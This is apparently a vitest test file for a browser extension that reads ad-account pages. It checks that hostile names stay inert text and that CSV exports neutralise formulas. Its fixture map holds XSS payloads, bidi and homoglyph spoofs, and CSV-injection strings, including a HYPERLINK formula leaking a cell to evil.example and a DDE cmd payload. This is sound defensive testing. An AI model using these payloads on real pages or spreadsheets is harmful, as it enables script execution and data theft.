/**
 * Hostile page text through the readers and the exports, in happy-dom (fast; the browser-side proof is
 * tests/e2e/trust.test.mjs). Every reader on every hostile string: never throws, keeps the text verbatim (as text,
 * never parsed), and the CSV export neutralises anything a spreadsheet would evaluate.
 * Fixtures: tests/fixtures/pages/hostile (docs/fixtures.md format).
 */
import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { detectPage } from '../../utils/pages/detect';
import { PAGE_IDS, type PageId } from '../../utils/pages/routes';
import { urlFor } from '../../utils/pages/urls';
import { readerFor, safeRead } from '../../utils/readers/registry';
import type { AccountRecord, ReadResult } from '../../utils/facts/types';
import { applyRead, emptyRecord } from '../../utils/store/merge';
import { parseAccountRecord } from '../../utils/store/validate';
import { createTranslator, type Catalog } from '../../utils/i18n';
import { RULES } from '../../utils/rules';
import { summarize } from '../../utils/rules/engine';
import { DEFAULT_SETTINGS } from '../../utils/store/schema';
import { CSV_BOM, neutralizeFormula, toAuditExport, toCsv } from '../../utils/export';

const HERE = path.dirname(fileURLToPath(import.meta.url));
const ROOT = path.resolve(HERE, '../..');
const FIXTURES = path.resolve(HERE, '../fixtures');
const NOW = Date.parse('2026-11-29T12:00:00Z');

interface Expect {
  page: string | null;
  account?: string;
  name?: string;
  facts?: Record<string, unknown>;
  rows?: { account: string; name?: string; facts: Record<string, unknown> }[];
}
interface Fixture {
  file: string;
  url: string;
  lang: string;
  htmlLang: string | null;
  expect: Expect | null;
  html: string;
  meta: Record<string, unknown>;
}
interface Server {
  loadFixtures(opts?: { dir?: string }): Fixture[];
  renderDocument(fx: Fixture): string;
}
const server = (await import(pathToFileURL(path.join(FIXTURES, 'server.mjs')).href)) as Server;
const hostileFixtures = server.loadFixtures({ dir: path.join(FIXTURES, 'pages/hostile') });

/** The attack strings (none has leading, trailing or doubled whitespace: readers collapse those, by design). */
let LONG = 'Lumen Long ';
while (LONG.length < 10_000) LONG += 'Coffee-Roasters-';
LONG = LONG.slice(0, 10_000);
export const HOSTILE: Record<string, string> = {
  img: '<img src=x onerror=alert(1)>',
  script: '<script>alert(document.domain)</script> Lumen',
  svg: '<svg/onload=alert(1)>',
  entity: '&lt;b&gt;not bold&lt;/b&gt; &amp; &#x41;',
  template: '${alert(1)} {{constructor.constructor(\'alert(1)\')()}}',
  jsUrl: 'javascript:alert(1)',
  bidi: 'Lumen \u202Egnp.exe Coffee',
  bidiIsolates: '\u2067Lumen\u2069 \u200F\u200Eadmin',
  long: LONG,
  emoji: 'Lumen ☕🚀👩🏽‍💻🇮🇹 Café',
  lookalike: 'Lumen Сoffee ７３０１ ٣٤ 0О1l',
  hyperlink: '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")',
  plus: '+SUM(1,2)*cmd|\' /C calc\'!A0',
  minus: '-2+3',
  at: '@SUM(A1:A9)',
  fullwidthEq: '＝1+1',
  bidiThenFormula: '\u202E=1+1',
  quotes: 'Lumen "Coffee", Ltd.\u00a0; \'x\'',
  nul: 'Lumen\u0000Coffee',
};

function shellDoc(fx: Fixture, html = fx.html): Document {
  const doc = new DOMParser().parseFromString(server.renderDocument(fx), 'text/html');
  const root = doc.querySelector('[data-fx-root]');
  if (!root) throw new Error(`${fx.file}: no app root`);
  root.innerHTML = html;
  return doc;
}

function read(doc: Document, url: string): ReadResult {
  const match = detectPage(url);
  if (!match) throw new Error(`not an app page: ${url}`);
  // The reader itself, not safeRead: a hostile page must not make it throw.
  return readerFor(match.page).read(doc, { url: new URL(url), match, now: NOW });
}

/** Replaces every text node equal to `from` (after trimming) with `to`, as a page's own framework would render it. */
function swapText(doc: Document, from: string, to: string): number {
  let n = 0;
  const walker = doc.createTreeWalker(doc.body, 4 /* NodeFilter.SHOW_TEXT */);
  const hits: Text[] = [];
  for (let t = walker.nextNode(); t; t = walker.nextNode()) if ((t.nodeValue ?? '').trim() === from) hits.push(t as Text);
  for (const t of hits) {
    t.nodeValue = to;
    n++;
  }
  return n;
}

function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let i = text.startsWith(CSV_BOM) ? 1 : 0;
  for (; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) throw new Error('CSV does not end with CRLF');
  return rows;
}

/** What a spreadsheet would evaluate (same definition as the guard it checks, written independently). */
const EVALUATED = /^[\s\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/u;

const tr = createTranslator(
  'en',
  JSON.parse(readFileSync(path.join(ROOT, 'public/i18n/en.json'), 'utf8')) as Catalog,
);

describe('hostile fixtures', () => {
  it('cover at least six pages and every kind of attack string', () => {
    expect(hostileFixtures.length).toBeGreaterThanOrEqual(6);
    const kinds = new Set(hostileFixtures.flatMap((f) => (f.meta.hostile as string[] | undefined) ?? []));
    for (const k of ['markup', 'script', 'bidi', 'long', 'emoji', 'lookalike', 'formula']) expect(kinds, k).toContain(k);
    const pages = new Set(hostileFixtures.map((f) => f.expect?.page));
    for (const p of ['ads.payment', 'ads.account-setup', 'bc.ad-accounts', 'seller.ads']) expect(pages, p).toContain(p);
  });

  describe.each(hostileFixtures.map((f) => [f.file, f] as const))('%s', (_file, fx) => {
    it('is read verbatim, as text, bare and inside its shell', () => {
      const bare = document.implementation.createHTMLDocument('');
      bare.documentElement.setAttribute('lang', fx.lang);
      bare.body.innerHTML = fx.html;
      expect(bare.querySelectorAll('img, script, svg').length, 'the fixture itself holds the attack as text').toBe(0);
      const b = read(bare, fx.url);
      if (fx.expect!.name !== undefined) expect(b.name, 'bare fragment').toBe(fx.expect!.name);
      // Inside the shell (menus, header in the page language) every expected fact is read.
      {
        const doc = shellDoc(fx);
        expect(doc.querySelectorAll('[data-fx-root] img, [data-fx-root] script, [data-fx-root] svg').length).toBe(0);
        const r = read(doc, fx.url);
        expect(r.error).toBeUndefined();
        const ex = fx.expect!;
        if (ex.name !== undefined) expect(r.name).toBe(ex.name);
        for (const [k, v] of Object.entries(ex.facts ?? {})) expect(r.facts[k as keyof ReadResult['facts']], k).toEqual(v);
        for (const want of ex.rows ?? []) {
          const got = r.rows?.find((x) => x.account === want.account);
          expect(got, want.account).toBeDefined();
          expect(got!.name).toBe(want.name);
          for (const [k, v] of Object.entries(want.facts)) expect(got!.facts[k as keyof ReadResult['facts']], `${want.account} ${k}`).toEqual(v);
        }
        // Keys stay ASCII-shaped whatever the names look like.
        for (const row of r.rows ?? []) expect(row.account).toMatch(/^ads:[0-9]{3,25}$/);
        if (r.account) expect(r.account).toMatch(/^(ads|bc):[0-9]{3,25}$|^seller:/);
      }
    });
  });
});

describe('every hostile string in every name slot', () => {
  const slots = hostileFixtures.flatMap((fx) => {
    const names = [fx.expect?.name, ...(fx.expect?.rows ?? []).map((r) => r.name)].filter((n): n is string => !!n && n.length < 200);
    return names.map((name) => [fx.file, name, fx] as const);
  });

  it.each(slots)('%s: %s', (_file, name, fx) => {
    for (const [kind, h] of Object.entries(HOSTILE)) {
      const doc = shellDoc(fx);
      expect(swapText(doc, name, h), `${kind}: the slot exists`).toBeGreaterThan(0);
      let r: ReadResult;
      expect(() => (r = read(doc, fx.url)), kind).not.toThrow();
      const want = h.replace(/\s+/g, ' ').trim();
      const got = [r!.name, ...(r!.rows ?? []).map((x) => x.name)];
      expect(got, kind).toContain(want);
      expect(doc.querySelectorAll('[data-fx-root] img, [data-fx-root] script, [data-fx-root] svg').length, kind).toBe(0);
    }
  });
});

describe('every reader on hostile documents', () => {
  const bodies: Record<string, string> = {
    'attack markup as text': Object.values(HOSTILE)
      .map((h) => `<div class="vi-info-row"><span class="vi-info-row__label">Account name</span><span>${h.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</span></div>`)
      .join(''),
    'live script and handlers': '<script>throw new Error("x")</script><img src=x onerror="throw 1"><table><tr><td colspan="-5" rowspan="99999">x</td></tr></table>',
    'broken tables': '<table><thead><tr><th>Account name</th><th>Account ID</th><th>Status</th></tr></thead><tbody><tr><td></td></tr><tr><td>a</td><td>７３９９０００</td><td>Approved</td><td>extra</td><td>extra</td></tr><tr></tr></tbody></table>',
    'deep nesting': '<div>'.repeat(2000) + 'Account name' + '</div>'.repeat(2000),
    'huge label soup': Array.from({ length: 500 }, (_, i) => `<dt>Account name</dt><dd>${LONG.slice(0, 200)}${i}</dd><dt>Billing threshold</dt><dd>=1+1 USD</dd>`).join(''),
    'empty body': '',
  };
  const cases = PAGE_IDS.flatMap((p) => Object.keys(bodies).map((b) => [p, b] as const));

  it.each(cases)('%s on %s: never throws, never executes', (page, body) => {
    const acct = page.startsWith('ads.') ? 'ads:7399000000000000001' : page.startsWith('bc.') ? 'bc:7399000000000000100' : 'seller:seller-us.tiktok.com:US';
    const url = urlFor(page as PageId, acct) ?? urlFor(page as PageId, null);
    if (!url) return;
    const match = detectPage(url);
    if (!match) return;
    const doc = document.implementation.createHTMLDocument('');
    doc.documentElement.setAttribute('lang', 'en');
    doc.body.innerHTML = bodies[body]!;
    const reader = readerFor(match.page);
    expect(() => reader.ready(doc)).not.toThrow();
    let r: ReadResult;
    expect(() => (r = reader.read(doc, { url: new URL(url), match, now: NOW }))).not.toThrow();
    expect(r!.page).toBe(match.page);
    for (const row of r!.rows ?? []) expect(row.account).toMatch(/^(ads|bc):[0-9]{3,25}$|^seller:/);
    // safeRead turns a throw into an honest "could not read" (checked with a reader that throws).
    const boom = safeRead({ pages: [match.page], ready: () => true, read: () => { throw new Error('boom'); } }, doc, { url: new URL(url), match, now: NOW });
    expect(boom).toMatchObject({ page: match.page, facts: {}, error: 'reader-failed' });
  });
});

describe('exports of hostile names', () => {
  const records: AccountRecord[] = Object.entries(HOSTILE).map(([kind, h], i) => {
    const key = `ads:73990000000000${String(1000 + i)}`;
    const rec = applyRead(emptyRecord(key, 'ads', NOW), key, 'ads', { page: 'ads.payment', facts: { 'account.name': h, 'billing.option': 'manual' }, unreadable: [], name: h }, NOW);
    // What the background stores is what validation lets through, unchanged.
    const { record } = parseAccountRecord(`acct:${key}`, JSON.parse(JSON.stringify(rec)));
    expect(record?.name, kind).toBe(h);
    return record!;
  });
  const summaries = records.map((r) => summarize(RULES, r, DEFAULT_SETTINGS, NOW));

  it('CSV: every cell a spreadsheet would evaluate is prefixed with a quote; names otherwise verbatim', () => {
    const csv = toCsv(records, summaries, tr);
    const rows = parseCsv(csv);
    expect(rows.length).toBeGreaterThan(records.length);
    let guarded = 0;
    for (const row of rows) for (const cell of row) expect(EVALUATED.test(cell), cell.slice(0, 80)).toBe(false);
    const header = rows[0]!;
    const nameCol = header.indexOf(tr.t('csv.name'));
    expect(nameCol).toBeGreaterThanOrEqual(0);
    for (const h of Object.values(HOSTILE)) {
      const cells = rows.slice(1).map((r) => r[nameCol]);
      if (EVALUATED.test(h)) {
        expect(cells).toContain(`'${h}`);
        guarded++;
      } else expect(cells).toContain(h);
    }
    expect(guarded).toBeGreaterThanOrEqual(6);
    expect(neutralizeFormula('=1+1')).toBe("'=1+1");
    expect(neutralizeFormula('Lumen')).toBe('Lumen');
  });

  it('JSON: names verbatim (no escaping beyond JSON itself, nothing dropped)', () => {
    const data = toAuditExport(records, DEFAULT_SETTINGS, NOW, { version: '0.1.0' });
    const back = JSON.parse(JSON.stringify(data)) as { accounts: { key: string; name: string | null }[] };
    for (const r of records) expect(back.accounts.find((a) => a.key === r.key)?.name).toBe(r.name);
  });
});
